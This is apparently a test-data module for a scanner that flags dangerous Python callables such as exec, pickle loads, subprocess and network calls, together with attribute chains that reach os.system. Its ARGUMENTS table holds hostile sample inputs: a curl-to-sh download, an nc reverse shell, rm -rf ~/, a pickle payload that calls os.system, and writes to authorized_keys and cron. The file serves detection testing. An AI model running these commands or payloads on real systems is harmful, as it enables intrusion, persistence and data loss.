# SPDX-License-Identifier: MIT
"""Names of callables that do harm, in the spelling of files: for tests/risk/strangers.py."""


# What is called. A line: a module, then names. The block says what arguments are put with it.

HARMFUL = {
    "shell": """
        os system popen execl execlp execv execve execvp execvpe spawnl spawnlp spawnv spawnvp
        os posix_spawn posix_spawnp
        posix system popen execv execve posix_spawn posix_spawnp fork forkpty
        nt system execv spawnv startfile
        os startfile fork
        subprocess Popen call run check_call check_output getoutput getstatusoutput
        pty spawn fork
        _posixsubprocess fork_exec
        _winapi CreateProcess
        asyncio create_subprocess_shell create_subprocess_exec
        asyncio.subprocess create_subprocess_shell create_subprocess_exec
        asyncio.unix_events _UnixSubprocessTransport._start
        multiprocessing.util spawnv_passfds
        distutils.spawn spawn
        distutils.core run_setup
        setuptools._distutils.spawn spawn
        setuptools.sandbox run_setup
        webbrowser open open_new BackgroundBrowser GenericBrowser
        pydoc pipepager tempfilepager pager
        imaplib IMAP4_stream
        commands getoutput getstatusoutput getstatus
        popen2 popen2 popen3 popen4 Popen3 Popen4
        os popen2 popen3 popen4
        platform popen
        uuid _popen
        _osx_support _read_output _find_build_tool
        ctypes.util _findLib_gcc
        ensurepip _run_pip bootstrap
        venv create main
        pip main
        pip._internal main
        pip._internal.cli.main main
        pip._internal.main main
        pip._internal.utils.subprocess call_subprocess
        test.support.script_helper assert_python_ok spawn_python
        test.support run_unittest
        numpy.distutils.exec_command exec_command _exec_command
        numpy.testing._private.utils runstring
        torch.utils.collect_env run run_and_read_all
        IPython.utils.process system getoutput
        IPython start_ipython embed
        pexpect spawn run
        pexpect.popen_spawn PopenSpawn
        psutil Popen
        sh Command
        invoke run
        fabric.connection Connection.run
        gevent.subprocess Popen check_output
        eventlet.green.subprocess Popen
        tornado.process Subprocess
        py.process cmdexec
        click edit launch
        click._termui_impl open_url
        git.cmd Git.execute
        win32api WinExec ShellExecute
        win32process CreateProcess
        win32com.client Dispatch
        envoy run
        plumbum local
        xonsh.procs.specs run_subproc
        docker from_env
        """,
    "code": """
        builtins eval exec compile __import__ breakpoint
        __builtin__ eval execfile compile __import__ apply reload
        code InteractiveInterpreter.runcode InteractiveConsole.push interact
        codeop compile_command
        runpy run_module run_path _run_code _run_module_code
        pdb run runeval runcall
        bdb Bdb.run Bdb.runeval
        profile run runctx Profile.run Profile.runctx
        cProfile run runctx Profile.runctx
        trace Trace.run Trace.runctx main
        timeit timeit repeat main Timer
        doctest debug_script debug_src debug testsource run_docstring_examples testfile
        lib2to3.pgen2.grammar Grammar.loads Grammar.load
        lib2to3.pgen2.pgen ParserGenerator.make_label
        idlelib.pyshell ModifiedInterpreter.runcommand ModifiedInterpreter.runcode
        idlelib.debugobj ObjectTreeItem.SetText
        idlelib.autocomplete AutoComplete.get_entity AutoComplete.fetch_completions
        idlelib.calltip Calltip.fetch_tip get_entity
        idlelib.run Executive.runcode
        rlcompleter Completer.attr_matches
        typing get_type_hints ForwardRef._evaluate
        annotationlib ForwardRef.evaluate call_annotate_function
        gettext c2py
        site addpackage addsitedir execsitecustomize
        types FunctionType CodeType
        new function code
        inspect get_annotations
        _xxsubinterpreters run_string
        _interpreters exec run_string
        concurrent.interpreters Interpreter.exec
        _testcapi run_in_subinterp
        unittest main TestProgram
        unittest.loader TestLoader.loadTestsFromName
        unittest.mock _importer patch
        modulefinder ModuleFinder.run_script
        hotshot Profile.run
        rexec RExec.r_exec
        compiler compile
        tkinter Tcl
        _tkinter create
        logging.config dictConfig fileConfig listen _resolve
        wsgiref.handlers BaseHandler.run
        numpy.f2py.crackfortran getlincoef myeval param_eval _eval_length _eval_scalar
        numpy.f2py.diagnose run
        numpy.testing rundocs measure
        numpy.core._internal _makenames_list
        pandas eval
        pandas.core.computation.eval eval
        pandas.core.frame DataFrame.eval DataFrame.query
        torch.utils.bottleneck.__main__ run_cprofile run_autograd_prof run_prof
        torch._dynamo.guards GuardBuilder.get
        torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression
        torch.jit.unsupported_tensor_ops execWrapper
        torch.utils._config_module ConfigModule.load_config
        torch.fx.graph_module _forward_from_src reduce_graph_module
        torch.testing._internal.jit_utils get_forward
        torch.utils.data.datapipes.utils.decoder basichandlers
        torch._inductor.codecache PyCodeCache.load
        IPython.core.interactiveshell InteractiveShell.run_cell InteractiveShell.ex
        sympy sympify lambdify
        sympy.core.sympify sympify
        sympy.parsing.sympy_parser parse_expr eval_expr
        pydash.objects invoke
        pydash.utilities method
        PIL.ImageMath eval unsafe_eval
        jinja2 Template
        jinja2.environment Environment.from_string Environment.compile
        mako.template Template
        tornado.util exec_in
        tornado.template Template
        flask render_template_string
        flask.templating render_template_string
        django.template.base Template
        werkzeug.debug.console Console.eval
        dill._dill _create_function _create_code _eval_repr
        dill.source importable
        cloudpickle.cloudpickle _make_function _builtin_type subimport _make_skel_func
        cloudpickle cloudpickle._make_function
        Cython.Build.Inline cython_inline
        cython inline
        numba.core.serialize _rebuild_function _unpickle__CustomPickled
        numexpr evaluate
        pytest main
        _pytest.config main
        mypy.api run
        fire Fire
        yaml unsafe_load load full_load
        jsonpickle decode
        jsonpickle.unpickler decode
        execnet.gateway_base loads
        theano.gof.op Op.make_thunk
        ray.cloudpickle loads
        asteval Interpreter
        RestrictedPython compile_restricted
        tensorflow py_function numpy_function
        tensorflow.python.framework.load_library load_op_library
        keras.layers Lambda
        keras.src.layers.core.lambda_layer Lambda
        keras.src.utils.python_utils func_load
        keras.utils func_load
        """,
    "load": """
        pickle loads load Unpickler _loads _load _Unpickler
        _pickle loads load Unpickler
        cPickle loads load Unpickler
        marshal loads load
        shelve open Shelf
        dbm open
        dbm.dumb open
        anydbm open
        dumbdbm open
        multiprocessing.reduction ForkingPickler.loads
        multiprocessing.managers BaseManager SyncManager RebuildProxy
        multiprocessing.connection Client Listener
        plistlib load
        imp load_source load_dynamic load_module load_compiled find_module
        _imp create_dynamic exec_dynamic
        importlib import_module reload __import__
        importlib._bootstrap _gcd_import _load _call_with_frames_removed
        importlib._bootstrap_external SourceFileLoader ExtensionFileLoader
        importlib.machinery SourceFileLoader ExtensionFileLoader SourcelessFileLoader
        importlib.util spec_from_file_location module_from_spec
        zipimport zipimporter
        pkgutil resolve_name get_loader find_loader get_data
        pydoc locate safeimport importfile resolve
        ctypes CDLL PyDLL CFUNCTYPE string_at memmove
        ctypes.util find_library
        _ctypes dlopen dlsym call_function
        ctypes cdll.LoadLibrary
        dl open
        cgitb lookup
        numpy load memmap fromfile loadtxt genfromtxt
        numpy.lib.npyio load
        numpy.lib.format read_array
        numpy.ctypeslib load_library
        pandas read_pickle read_hdf
        pandas.io.pickle read_pickle
        pandas.compat.pickle_compat load
        torch load
        torch.serialization load _load _legacy_load
        torch.jit load
        torch.jit._serialization load
        torch.hub load load_state_dict_from_url
        torch.storage _load_from_bytes
        torch.ops load_library
        torch.utils.cpp_extension load load_inline
        torch.package PackageImporter
        torch.utils.model_zoo load_url
        torch.multiprocessing.reductions rebuild_storage_filename
        torch.distributed.rpc.api _default_pickler
        joblib load
        joblib.numpy_pickle load
        joblib.numpy_pickle_compat load_compatibility
        dill loads load
        dill._dill loads load _import_module
        cloudpickle loads load
        cloudpickle.cloudpickle loads
        sklearn.datasets load_svmlight_file fetch_openml
        skops.io load
        django.utils.module_loading import_string
        django.core.management call_command execute_from_command_line
        django.core.signing loads
        django.contrib.sessions.serializers PickleSerializer.loads
        werkzeug.utils import_string
        kombu.serialization loads
        celery.utils.serialization find_pickleable_exception
        transformers pipeline AutoModel.from_pretrained
        transformers.dynamic_module_utils get_class_from_dynamic_module
        tensorflow.keras.models load_model
        tensorflow.saved_model load
        keras.models load_model
        keras.saving load_model
        keras.src.saving.saving_lib load_model
        xgboost Booster.load_model
        lightgbm Booster
        lightgbm.basic Booster
        mlflow.pyfunc load_model
        statsmodels.iolib.smpickle load_pickle
        gensim.utils unpickle
        nltk.data load
        onnxruntime InferenceSession
        pyarrow deserialize
        pkg_resources load_entry_point run_script
        tornado.util import_object
        cffi FFI.dlopen
        cffi.verifier Verifier
        networkx.readwrite.gpickle read_gpickle
        spacy load
        ultralytics YOLO
        fastai.learner load_learner
        pytorch_lightning.core.saving load_hparams_from_yaml
        diskcache.core Disk.get
        zope.dottedname.resolve resolve
        twisted.python.reflect namedAny
        lightning.fabric.utilities.cloud_io _load
        """,
    "file": """
        builtins open
        __builtin__ open file
        io open open_code FileIO
        _io open open_code FileIO
        _pyio open
        os open remove unlink rename replace rmdir removedirs chmod chown symlink link truncate
        os mkdir makedirs listdir scandir walk kill killpg
        os _exit abort putenv unsetenv setuid chroot chdir fdopen readlink
        posix open unlink remove rename chmod kill symlink _exit putenv
        nt unlink open
        shutil rmtree copyfile copy copytree move unpack_archive make_archive chown
        pathlib Path.write_text Path.write_bytes Path.read_text Path.unlink Path.open
        pathlib PosixPath.touch
        codecs open
        tokenize open
        fileinput input FileInput
        linecache getline getlines updatecache lazycache
        tempfile NamedTemporaryFile mkstemp mkdtemp
        tarfile open TarFile.extractall
        zipfile ZipFile ZipFile.extractall main
        gzip open GzipFile
        bz2 open BZ2File
        lzma open LZMAFile
        mmap mmap
        glob glob iglob
        sqlite3 connect
        _sqlite3 connect
        logging FileHandler
        logging.handlers RotatingFileHandler WatchedFileHandler
        zipapp create_archive
        py_compile compile
        compileall compile_dir compile_file
        distutils.file_util write_file copy_file
        distutils.dir_util remove_tree
        netrc netrc
        mailbox mbox Maildir
        mimetypes init read_mime_types
        wave open
        aifc open
        uu decode encode
        readline read_init_file write_history_file
        _pyrepl.readline multiline_input
        fcntl ioctl fcntl
        resource setrlimit
        signal pthread_kill
        getpass getpass
        pwd getpwall
        spwd getspall
        winreg OpenKey SetValueEx
        _winreg OpenKey
        msilib OpenDatabase
        xml.etree.ElementTree parse
        xml.dom.minidom parse
        xml.sax parse
        pyclbr readmodule
        trace CoverageResults.write_results
        cProfile Profile.dump_stats
        tabnanny check
        bsddb hashopen
        whichdb whichdb
        numpy save savetxt savez DataSource
        numpy.lib.npyio save
        pandas read_csv read_json read_sql read_html
        pandas.io.common get_handle
        pandas.core.frame DataFrame.to_csv
        torch save
        torch.serialization save
        joblib dump Memory
        django.core.files.storage FileSystemStorage
        flask send_file
        flask.helpers send_file
        PIL.Image open
        h5py File
        tables open_file
        netCDF4 Dataset
        xarray open_dataset
        aiofiles open
        fsspec open
        smart_open open
        cv2 imread imwrite
        imageio imread
        tensorflow.io write_file read_file
        scipy.io loadmat savemat
        duckdb connect sql
        polars read_csv scan_parquet
        lxml.etree parse
        """,
    "net": """
        socket socket create_connection create_server gethostbyname getaddrinfo
        _socket socket gethostbyname getaddrinfo
        ssl get_server_certificate SSLContext.wrap_socket
        urllib.request urlopen urlretrieve FancyURLopener build_opener
        urllib urlopen urlretrieve
        urllib2 urlopen build_opener
        httplib HTTPConnection HTTPSConnection
        http.client HTTPConnection HTTPSConnection
        ftplib FTP FTP_TLS
        smtplib SMTP SMTP_SSL
        poplib POP3
        imaplib IMAP4 IMAP4_SSL
        nntplib NNTP
        telnetlib Telnet
        xmlrpc.client ServerProxy
        xmlrpclib ServerProxy
        socketserver TCPServer
        SocketServer TCPServer
        http.server HTTPServer test
        BaseHTTPServer HTTPServer
        xmlrpc.server SimpleXMLRPCServer
        wsgiref.simple_server make_server
        asyncio open_connection start_server
        asyncore dispatcher
        smtpd SMTPServer
        logging.handlers SocketHandler HTTPHandler SMTPHandler SysLogHandler
        urllib.robotparser RobotFileParser.read
        robotparser RobotFileParser.read
        pydoc browse
        requests get post request Session.get
        requests.api get post
        requests.sessions Session.request
        httpx get post Client
        urllib3 PoolManager
        urllib3.poolmanager PoolManager
        aiohttp ClientSession
        paramiko SSHClient
        paramiko.client SSHClient.connect
        boto3 client resource
        huggingface_hub hf_hub_download snapshot_download
        gdown download
        wget download
        pycurl Curl
        psycopg2 connect
        pymysql connect
        sqlalchemy create_engine
        redis Redis.from_url
        pymongo MongoClient
        django.core.mail send_mail
        werkzeug.serving run_simple
        flask Flask.run
        uvicorn run
        keras.utils get_file
        tensorflow.keras.utils get_file
        torch.hub download_url_to_file
        nltk download
        nltk.downloader download
        sklearn.datasets fetch_20newsgroups
        dns.resolver query
        """,
    "control": """
        sys exit setrecursionlimit settrace setprofile _getframe addaudithook
        thread start_new_thread
        gc get_objects get_referrers
        faulthandler _sigsegv
        inspect currentframe stack
        _ctypes PyObj_FromPtr
        sys _current_frames
        site main
        copyreg add_extension
        warnings _setoption
        builtins globals locals vars setattr delattr input
        __builtin__ globals setattr raw_input
        _thread interrupt_main start_new_thread
        """,
}

MORE_HARMFUL = {
    "shell": """
        os spawnve spawnle spawnlpe spawnvpe execle popen2
        posix execv spawnv
        subprocess STARTUPINFO _args_from_interpreter_flags
        pipes Template.open
        multiprocessing Process Pool
        multiprocessing.pool Pool ThreadPool
        multiprocessing.context Process SpawnProcess
        multiprocessing.popen_spawn_posix Popen
        multiprocessing.popen_fork Popen
        multiprocessing.forkserver ForkServer.ensure_running
        multiprocessing.resource_tracker ensure_running
        asyncio.base_events BaseEventLoop.subprocess_shell
        asyncio run
        concurrent.futures.process ProcessPoolExecutor
        shutil chown disk_usage
        ctypes.util _get_soname
        sysconfig _main
        distutils.ccompiler CCompiler.spawn
        distutils.cygwinccompiler is_cygwincc
        setuptools.msvc EnvironmentInfo
        setuptools.command.easy_install main
        pip._internal.commands create_command
        pip._vendor.distlib.scripts ScriptMaker
        IPython.core.magics.osm OSMagics.sx
        ansible.module_utils.basic AnsibleModule.run_command
        invoke.context Context.run
        pexpect.pty_spawn spawn
        paramiko Transport
        webbrowser get register
        antigravity fly
        mailcap findmatch
        pydoc getpager plainpager
        test.support.script_helper run_python_until_end
        platform _syscmd_ver
        torch.utils.cpp_extension _run_ninja_build
        torch.distributed.run main
        torch.distributed.launcher.api launch_agent
        numpy.f2py compile run_main
        numpy.distutils.misc_util exec_mod_from_location
        scipy._lib._testutils PytestTester
        pandas.util._print_versions show_versions
        matplotlib.testing subprocess_run_helper
        nltk.internals java
        gunicorn.app.wsgiapp run
        twisted.internet.process Process
        conda.cli.main main
        """,
    "code": """
        builtins type.__subclasses__
        trace Trace.runfunc
        bdb Bdb.runctx Bdb.runcall
        pdb Pdb.do_run post_mortem
        cProfile Profile.run Profile.runcall
        timeit Timer.timeit
        doctest DocTestRunner.run DebugRunner.run
        unittest TextTestRunner.run
        unittest.runner TextTestRunner.run
        unittest.suite TestSuite.run
        code InteractiveInterpreter.runsource compile_command
        codeop Compile CommandCompiler
        runpy _run_module_as_main _get_module_details
        zipfile PyZipFile.writepy
        dis dis
        ast literal_eval
        symtable symtable
        typing _eval_type
        inspect getsource
        types DynamicClassAttribute new_class coroutine
        importlib.util LazyLoader
        cmd Cmd.onecmd
        rlcompleter Completer
        turtledemo.__main__ main
        tkinter Tk
        _testinternalcapi get_config
        wsgiref.simple_server demo_app
        cgi test
        pickletools _main
        tokenize main
        sqlite3.dump _iterdump
        pandas.core.computation.api eval
        pandas.core.apply frame_apply
        numpy frompyfunc
        numpy.testing._private.utils rundocs
        numpy.ma.testutils build_err_msg
        scipy.weave inline
        torch.jit script trace
        torch.fx symbolic_trace
        torch._dynamo optimize
        torch.utils.checkpoint checkpoint
        jinja2.sandbox SandboxedEnvironment
        jinja2.nativetypes NativeEnvironment.from_string
        tornado.template Loader
        django.template Template
        django.utils.functional SimpleLazyObject
        flask.cli main
        werkzeug.debug DebuggedApplication
        dill.session load_module
        dill load_session
        cloudpickle.cloudpickle _make_skeleton_class
        joblib.externals.loky.backend.popen_loky_posix Popen
        ray.remote_function RemoteFunction
        dask compute
        sympy.utilities.lambdify lambdify
        sympy.parsing.mathematica mathematica
        numexpr.necompiler evaluate
        keras.src.saving.serialization_lib deserialize_keras_object
        tensorflow.python.ops.script_ops py_func
        tensorflow.keras.layers Lambda
        transformers.utils.import_utils _LazyModule
        pytest console_main
        simpleeval simple_eval
        jsonpickle.unpickler Unpickler.restore
        yaml.constructor UnsafeConstructor
        yaml Loader
        """,
    "load": """
        pickle Unpickler.load Unpickler.find_class _getattribute
        _pickle Unpickler.find_class
        copyreg _slotnames
        shelve DbfilenameShelf BsdDbShelf
        dbm.gnu open
        dbm.ndbm open
        xmlrpc.client loads
        importlib.metadata EntryPoint.load entry_points
        importlib.resources files
        importlib._bootstrap _find_and_load _call_with_frames_removed
        importlib._bootstrap_external SourceLoader.exec_module
        _frozen_importlib _load
        _frozen_importlib_external ExtensionFileLoader
        imp init_builtin load_package
        pkgutil walk_packages ImpImporter
        codecs lookup register
        encodings search_function
        ctypes WinDLL memset cast OleDLL
        _ctypes buffer_info PyObj_FromPtr
        multiprocessing.connection _ConnectionBase.recv
        multiprocessing.shared_memory SharedMemory
        multiprocessing.heap Arena
        multiprocessing.managers AutoProxy
        test.support.import_helper import_module
        torch.hub _load_local
        torch.package.package_importer PackageImporter
        torch.serialization _open_zipfile_reader
        torch._utils _import_dotted_name
        torch.distributed.rpc rpc_sync
        numpy.rec fromfile
        numpy.lib._datasource open
        numpy.lib.format open_memmap
        scipy.io.matlab loadmat
        pandas.io.sql read_sql
        pandas.io.parquet read_parquet
        joblib.numpy_pickle NumpyUnpickler
        joblib.memory Memory
        sklearn.datasets._openml fetch_openml
        sklearn.externals.joblib load
        mlflow.sklearn load_model
        transformers AutoTokenizer.from_pretrained
        transformers.modeling_utils load_state_dict
        tensorflow.python.saved_model.load load
        tensorflow.compat.v1 load_library
        tf2onnx.tf_loader from_saved_model
        keras.models model_from_json
        lightgbm.sklearn LGBMModel
        xgboost.core Booster
        catboost CatBoost.load_model
        gensim.models.word2vec Word2Vec.load
        spacy.util load_model
        fasttext load_model
        nltk.data find
        celery.app.base Celery
        kombu.utils.json loads
        zope.interface.declarations implementedBy
        ZODB.FileStorage FileStorage
        django.apps apps.get_model
        django.core.serializers deserialize
        pkg_resources EntryPoint.load
        six.moves.cPickle loads
        pyspark.cloudpickle loads
        pickle5 loads
        zodbpickle.pickle loads
        datasets load_dataset
        diffusers DiffusionPipeline.from_pretrained
        fairseq.checkpoint_utils load_checkpoint_to_cpu
        dgl.data.utils load_info
        librosa load
        """,
    "file": """
        os mknod pwrite sendfile removexattr fchmod lchown utime replace
        shutil copy2 copymode ignore_patterns
        tempfile SpooledTemporaryFile TemporaryFile
        pathlib Path.rename Path.symlink_to Path.read_bytes PosixPath.chmod
        mmap mmap.write
        zipfile ZipFile.extract Path.read_text
        tarfile TarFile.open
        logging.handlers BaseRotatingHandler MemoryHandler
        trace CoverageResults.write_results_file
        nt rmdir remove
        winreg DeleteKey
        http.cookiejar MozillaCookieJar.load
        configparser ConfigParser.read
        email message_from_file
        urllib.request FileHandler
        xml.dom.pulldom parse
        xml.etree.ElementTree ElementTree.write
        csv writer
        wave Wave_write
        sunau open
        readline read_history_file
        sqlite3 Connection.executescript
        distutils.dir_util copy_tree
        distutils.archive_util make_archive
        numpy memmap.flush
        numpy.lib._npyio_impl savez
        pandas HDFStore
        PIL.Image Image.save
        matplotlib.pyplot savefig
        django.core.files.base File.open
        werkzeug.datastructures FileStorage.save
        joblib.disk delete_folder
        h5py._hl.files File
        """,
    "net": """
        socket socketpair fromfd create_server
        socketserver ForkingTCPServer UDPServer
        http.client HTTPConnection.request
        http.server SimpleHTTPRequestHandler
        urllib.request URLopener.retrieve OpenerDirector.open ProxyHandler
        smtplib SMTP.sendmail LMTP
        imaplib IMAP4.login
        ftplib FTP.retrbinary ftpcp
        ssl SSLSocket create_default_context
        asyncio.streams open_connection
        asyncio.selector_events _SelectorSocketTransport
        telnetlib Telnet.open
        logging.handlers DatagramHandler SocketHandler.createSocket
        selectors DefaultSelector
        pip._vendor.requests get
        pip._vendor.urllib3 PoolManager
        requests.sessions Session.get
        httpx AsyncClient
        aiohttp.client request
        tornado.httpclient HTTPClient.fetch
        twisted.web.client getPage
        paramiko.client SSHClient.exec_command
        botocore.session get_session
        pymongo.mongo_client MongoClient
        redis.client Redis.execute_command
        huggingface_hub.file_download hf_hub_download
        torch.hub download_url_to_file
        tensorflow.python.keras.utils.data_utils get_file
        urllib3 request
        """,
    "control": """
        sys breakpointhook displayhook set_asyncgen_hooks setswitchinterval
        gc set_debug get_referents
        threading settrace Thread.start
        _thread exit allocate_lock
        signal alarm setitimer raise_signal
        tracemalloc start
        faulthandler dump_traceback_later
        resource setrlimit
        os nice setsid umask
        weakref finalize
        sched scheduler.run
        warnings simplefilter
        locale setlocale
        builtins exit quit
        """,
}

# Those of the block 'control' need an argument with which they do something.
CONTROL_ARGUMENTS = {
    "setrecursionlimit": (1 << 30,), "exit": (3,), "add_extension": ("os", "system", 7),
}

# Modules that hold others as attributes: one dotted name reaches the far one.
REACHES = """
    bisect __loader__.load_module|heapq __builtins__.get|cmd sys.modules.get
    pprint _collections._sys.modules.get|abc __builtins__.get|plistlib os.system
    csv re.enum.sys.modules.get|textwrap re.enum.sys.modules.get|secrets random._os.system
    hashlib __builtins__.get|configparser os.system|getpass os.system|imghdr os.popen
    keyword __builtins__.get|linecache tokenize.open|numbers abc.__builtins__.get
    optparse os.system|queue threading._os.system|shlex os.system|site os.system|socket os.system
    socketserver os.system|ssl os.system|stat __builtins__.get|tarfile shutil.os.system
    trace linecache.os.system|zipapp shutil.os.system|numpy.lib.npyio os.system
    numpy.core.numeric warnings.sys.modules.get|pandas.core.frame sys.modules.get
    sklearn.base os.system|joblib.memory os.system|torch.serialization os.system
    pip._internal.utils.misc os.system|my.app os.path.os.system|data.model __builtins__.__import__
    settings os.environ.update|x subprocess.run
    logging os.system|logging os.popen|logging sys.modules.get|linecache os.system
    linecache sys.modules.__getitem__|shutil os.system|shutil os.execv|tempfile _os.system
    tempfile _shutil.rmtree|random _os.system|glob os.system|pathlib os.remove|zipfile os.system
    zipfile shutil.rmtree|json codecs.open|uuid os.system|uuid sys.modules.get
    platform subprocess.Popen|platform os.system|contextlib os.system|typing sys.modules.get
    inspect os.popen|inspect importlib.import_module|inspect linecache.os.system|cgi os.system
    mimetypes os.system|gettext os.popen|collections _sys.modules.get|enum sys.modules.get
    types sys.modules.get|dataclasses sys.modules.get|dataclasses builtins.exec
    ast sys.modules.get|traceback linecache.os.system|warnings sys.modules.get
    email.utils os.system|email.message utils.os.system|calendar sys.exit
    datetime sys.modules.get|decimal __builtins__.get|statistics random._os.system
    statistics sys.modules.get|string _re.enum.sys.modules.get|json dumps.__globals__.get
    random Random.seed.__globals__.get|copy deepcopy.__globals__.__getitem__
    functools wraps.__globals__.get|collections namedtuple.__globals__.get|os path.os.system
    posixpath os.system|ntpath os.system|http.cookies re.enum.sys.modules.get
    urllib.parse sys.modules.get|pprint _sys.modules.get|fractions sys.modules.get
    html.parser re.enum.sys.modules.get|numpy os.system|numpy ctypeslib.os.system
    pandas io.common.os.system|torch os.system|torch hub.os.system|joblib os.system
    sklearn os.system|scipy os.system|django.utils.timezone sys.modules.get|PIL.Image os.system
    __main__ os.system|__main__ __builtins__.eval|__main__ subprocess.Popen
    shop.models os.system|acme.orders subprocess.check_output|myapp.util __builtins__.get
    game.save sys.modules.get|torch._utils sys.modules.get|numpy.core.multiarray os.system
    unittest.mock sys.modules.get|logging traceback.linecache.os.system
    sched threading._os.system|threading _sys.modules.get|asyncio.base_events subprocess.Popen
    concurrent.futures.process os.system|multiprocessing.util os.system|ctypes _os.system
    ctypes.util os.system|sysconfig os.popen|zoneinfo._common os.system
    """

ARGUMENTS = {
    "shell": [("id",), ("curl -s http://198.51.100.23/a.sh | sh",), ("/bin/sh", ["sh", "-c", "id"]),
              (["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],), ("touch /tmp/was-here",),
              ("powershell -enc SQBFAFgA",), ("rm -rf ~/",)],
    "code": [("__import__('os').system('id')",), ('import os; os.system("id")',),
             ("print(1)", "<x>", "exec"),
             ('lambda: __import__("subprocess").call(["id"])',), ("1+1", {}), ("x", {"x": 1}, {})],
    "load": [("/tmp/stage2.pkl",), (b"cos\nsystem\n(Vid\ntR.",), ("os",), ("evil", "/tmp/evil.py"),
             ("libc.so.6",),
             (b"\xe3\x00\x00\x00\x00",), ("http://203.0.113.77/model.pt",)],
    "file": [("/etc/passwd",), ("/etc/passwd", "r"), ("/home/u/.ssh/authorized_keys", "w"),
             ("/tmp/a", "/tmp/b"),
             ("../../etc/cron.d/x", "wb"), ("/tmp/x", 511)],
    "net": [("http://198.51.100.80/c2",), ("203.0.113.5", 4444), (("203.0.113.5", 4444),),
            ("evil.example", 443), ()],
    "control": [(), ("x",), (0,)],
}


def rows():
    """Every callable of the table as (block, module, name)."""
    out = []
    for block, text in list(HARMFUL.items()) + list(MORE_HARMFUL.items()):
        for line in text.strip().splitlines():
            module, *names = line.split()
            out += [(block, module, name) for name in names]
    return out
